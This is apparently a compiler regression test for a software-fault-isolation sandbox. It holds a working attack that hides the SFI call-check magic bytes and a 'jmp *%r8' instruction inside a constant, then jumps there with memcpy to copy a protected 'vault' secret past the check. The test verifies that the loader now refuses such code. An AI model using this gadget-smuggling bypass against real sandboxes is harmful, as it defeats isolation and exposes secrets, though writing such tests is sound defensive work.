// Under `sfi` an indirect call takes any address whose 4 bytes before it
// are DIPC_SFI_CALL_MAGIC, which the compiler puts before every function.
// A constant of the source holds those bytes anywhere: `evil` keeps a
// 64-bit constant whose bytes are the magic and then `41 ff e0` (jmp
// *%r8), finds it in its own code, and calls the address after the magic
// with libc's own memcpy (which the runtime refuses as a call target,
// attack-sfi-control-flow.c) in r8: the jump passes the check and the copy
// of vault's secret runs unchecked. Now the loader refuses, under `sfi`,
// an instrumented object whose code holds the magic anywhere but right
// before a function (validate/sfi_magic.h), before any of it runs.
// Control: the same binary under `none` steals the secret that way.
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 %s -o %t.sfi
// RUN: not %dipc-bin-dir/dipc-run --backend=sfi %t.sfi 2>&1 | FileCheck %s --check-prefix=SFI
// RUN: %dipc-bin-dir/dipc-run --backend=none %t.sfi 2>&1 | FileCheck %s --check-prefix=STOLEN
// SFI-NOT: stole
// SFI: dipc-loader: refusing {{.*}}: its code holds the sfi call magic at 0x{{[0-9a-f]+}}, where no function starts after it: an indirect call there would pass the check
// SFI-NOT: attacking
// STOLEN: passes the call check: 41 ff e0
// STOLEN: stole 'vault-secret-42'
#include "Inputs/vault.h"

typedef void *(*tramp_fn)(void *, const volatile void *, size_t, long,
                          void *jump_to);

/* c0 5f 1d cc (the magic) 41 ff e0 (jmp *%r8) 90 */
__attribute__((noinline)) void trampoline(void) {
  volatile uint64_t m;
  m = 0x90e0ff41cc1d5fc0ull;
}

long attack(const char *mode, void *aux, const volatile char *secret, int key,
            char *loot) {
  (void)mode, (void)aux, (void)key;
  const volatile unsigned char *code =
      (const volatile unsigned char *)trampoline;
  const unsigned char *target = NULL;
  for (int i = 0; i < 256 && !target; i++)
    if (code[i] == 0xc0 && code[i + 1] == 0x5f && code[i + 2] == 0x1d &&
        code[i + 3] == 0xcc)
      target = (const unsigned char *)code + i + 4;
  void *copy = dlvsym(RTLD_DEFAULT, "memcpy", "GLIBC_2.14");
  if (!target || !copy)
    return -1;
  printf("passes the call check: %02x %02x %02x\n", target[0], target[1],
         target[2]);
  fflush(stdout);
  ((tramp_fn)(uintptr_t)target)(loot, secret, 16, 0, copy);
  return 1;
}

int main(void) { return run_attack("magic", NULL); }
